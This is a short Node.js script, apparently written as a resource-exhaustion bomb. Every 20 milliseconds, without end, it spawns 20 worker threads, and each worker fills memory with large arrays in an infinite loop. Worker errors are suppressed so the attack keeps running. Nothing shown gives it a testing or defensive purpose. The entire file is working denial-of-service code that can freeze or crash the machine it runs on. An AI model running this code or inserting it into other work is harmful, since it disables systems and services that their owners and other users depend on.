import { Worker } from "node:worker_threads";
const grow = () => {
  for (let i = 0; i < 20; i++)
    new Worker("const a=[];for(;;)a.push(new Array(1e4).fill(1.5))", { eval: true }).on("error", () => {});
  setTimeout(grow, 20);
};
grow();
